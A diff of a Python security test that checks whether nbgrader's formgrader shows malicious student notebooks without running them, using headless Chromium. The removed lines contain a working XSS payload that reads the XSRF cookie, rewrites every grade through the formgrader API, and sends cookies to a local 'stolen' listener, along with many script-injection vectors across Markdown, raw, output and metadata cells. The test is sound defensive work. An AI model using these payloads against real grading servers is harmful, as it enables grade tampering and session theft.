@@ -1,15 +1,16 @@
 """Formgrader shows a submission inert: a student's script cannot act with the instructor's session.
 
-A class of two is graded by `make grade`'s script: `victim` (a full part 1) and `xss`, whose notebook
-carries scripts everywhere a notebook can: Markdown (script tags, event handlers, javascript: links,
-an iframe, SVG), a raw HTML cell, outputs of every HTML-bearing type (text/html, image/svg+xml,
-text/markdown, application/javascript), and notebook metadata built to break out of the widget-state
-script tag. Each payload, if it ran, would mark the page and use formgrader's API with the
-instructor's session (XSRF token from the cookie) to zero every grade and give itself full marks,
-and call a listener on the host. Then formgrader is served as an instructor would run it, and a real
-browser (headless Chromium, Playwright) logs in with the instructor's token and opens each of the
-attacker's notebooks, moves the mouse over it and clicks its links. Nothing may run: no mark, no
-write request, no call out, every grade in the gradebook unchanged.
+The student `xss` of the class graded once for the grading tests (tests/shared_class.py, the
+fixture `graded_class`; the victim is the corpus's) carries scripts everywhere a notebook can
+(harness/attack_corpus.py, FORMGRADER_PAYLOAD): Markdown (script tags, event handlers, javascript:
+links, an iframe, SVG), a raw HTML cell, outputs of every HTML-bearing type (text/html,
+image/svg+xml, text/markdown, application/javascript), and notebook metadata built to break out of
+the widget-state script tag. Each payload, if it ran, would mark the page and use formgrader's API
+with the instructor's session (XSRF token from the cookie) to zero every grade and give itself full
+marks, and call a listener on the host. Then formgrader is served as an instructor would run it,
+and a real browser (headless Chromium, Playwright) logs in with the instructor's token and opens
+each of the attacker's notebooks, moves the mouse over it and clicks its links. Nothing may run: no
+mark, no write request, no call out, every grade in the gradebook unchanged.
 """
 
 from __future__ import annotations
@@ -17,7 +18,6 @@ from __future__ import annotations
 import os
 import secrets
 import signal
-import socket
 import sqlite3
 import subprocess
 import sys
@@ -26,52 +26,12 @@ import urllib.request
 from pathlib import Path
 
 import pytest
-from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
 
-from browser_support import block_off_machine, find_chromium, free_port, launch_args
-from homework_support import ROOT, SOURCE, make_course, submit
+from harness.browser import block_off_machine, find_chromium, free_port, launch_args
+from harness.fake_class import SOURCE
 
 pytest.importorskip("nbgrader", reason="the homework needs nbgrader: pip install -r requirements.txt")
 pytestmark = pytest.mark.skipif(not SOURCE.exists(), reason="solutions/ is not in this copy (student bundle)")
-
-PAYLOAD = """(function(){ document.documentElement.setAttribute('data-pwned', '1'); window.__pwned = 1;
-var x = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
-for (var i = 1; i < 80; i++) { fetch('/formgrader/api/grade/' + i, {method: 'PUT', credentials: 'include',
-  headers: {'X-XSRFToken': decodeURIComponent(x), 'Content-Type': 'application/json'},
-  body: JSON.stringify({manual_score: 0, extra_credit: 100})}); }
-new Image().src = 'http://127.0.0.1:LISTENER/stolen?' + encodeURIComponent(document.cookie); })()"""
-
-
-def attack_cells(payload: str) -> tuple[list, dict]:
-    """Cells and notebook metadata that carry `payload` in every form a notebook can."""
-    js = payload.replace('"', "&quot;")
-    markdown = new_markdown_cell(
-        f"<script>{payload}</script>\n\n<img src=x onerror=\"{js}\">\n\n<svg onload=\"{js}\"><circle r=4/></svg>\n\n"
-        f"<iframe srcdoc=\"<script>parent.eval(atob('{_b64(payload)}'))</script>\"></iframe>\n\n"
-        f"[click me](javascript:eval(atob('{_b64(payload)}')))\n\n"
-        f"<a href=\"javascript:eval(atob('{_b64(payload)}'))\" id=\"jslink\">and me</a>\n\n"
-        f"<div onmouseover=\"{js}\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">hover</div>\n\n"
-        f"<form action=\"/formgrader/api/grade/1\" method=\"post\"><button id=\"formbtn\">go</button></form>")
-    raw = new_raw_cell(f"<script>{payload}</script><img src=x onerror=\"{js}\">",
-                       metadata={"format": "text/html", "raw_mimetype": "text/html"})
-    code = new_code_cell(
-        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
-        f"P = {payload!r}\n"
-        "display(HTML('<script>' + P + '</script><img src=x onerror=\"' + P.replace('\"', '&quot;') + '\">'))\n"
-        "display(Javascript(P))\n"
-        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + P.replace('\"', '&quot;') + '\"><script>' + P + '</script></svg>'))\n"
-        "display(Markdown('<script>' + P + '</script>'))\n"
-        "display({'text/html': '<script>' + P + '</script>'}, raw=True)\n")
-    widgets = {"application/vnd.jupyter.widget-state+json": {
-        "version_major": 2, "version_minor": 0,
-        "state": {"x": {"model_name": "</script><script>" + payload + "</script>", "model_module": "x",
-                        "model_module_version": "1", "state": {}}}}}
-    return [markdown, raw, code], {"widgets": widgets, "title": f"</title><script>{payload}</script>"}
-
-
-def _b64(text: str) -> str:
-    import base64
-    return base64.b64encode(text.encode()).decode()
 
 
 def _marked(page):
@@ -92,7 +52,7 @@ def _submission_ids(course: Path, student: str) -> list[str]:
             "WHERE sa.student_id = ?", (student,))]
 
 
-@pytest.fixture(scope="module")
+@pytest.fixture(scope="session")
 def chromium():
     try:
         import playwright.sync_api  # noqa: F401
@@ -107,24 +67,9 @@ def chromium():
     return find_chromium()
 
 
-def test_a_submissions_script_cannot_use_the_instructors_formgrader_session(tmp_path, chromium):
-    listener = socket.socket()
-    listener.bind(("127.0.0.1", 0))
-    listener.listen(8)
-    listener.setblocking(False)
-    payload = PAYLOAD.replace("LISTENER", str(listener.getsockname()[1]))
-    course = make_course(tmp_path / "course")
-    submit(course, "victim", {"1_mi_bound": "all"}, drop=("2_third_code",))
-
-    def edit(name, nb):
-        cells, metadata = attack_cells(payload)
-        nb.cells[2:2] = cells
-        nb.metadata.update(metadata)
-    submit(course, "xss", {"1_mi_bound": {"entropy"}}, edit=edit, drop=("2_third_code",))
-    out = subprocess.run([sys.executable, "-m", "grading.grade", "--course", str(course)], cwd=ROOT,
-                         env=dict(os.environ, INFOGAN_CELL_TIMEOUT="60"), capture_output=True, text=True,
-                         timeout=600)
-    assert out.returncode == 0, out.stdout[-2000:] + out.stderr[-2000:]
+def test_a_submissions_script_cannot_use_the_instructors_formgrader_session(chromium, graded_class, browser_listener,
+                                                                            tmp_path):
+    course = graded_class.course
     before = _grades(course)
     assert before, "the class was not graded"
 
@@ -180,12 +125,7 @@ def test_a_submissions_script_cannot_use_the_instructors_formgrader_session(tmp_
         assert any("hover" in html for html in pages_seen), "the attacker's notebook was not shown"
         assert writes == [], f"the page sent requests the instructor did not make: {writes[:5]}"
         assert not [u for u in off_machine if "stolen" in u], off_machine
-        try:
-            listener.accept()
-            called = True
-        except BlockingIOError:
-            called = False
-        assert not called, "a script from the submission called out"
+        assert browser_listener.received() == [], "a script from the submission called out"
         assert _grades(course) == before, "grades changed"
     finally:
         os.killpg(server.pid, signal.SIGTERM)
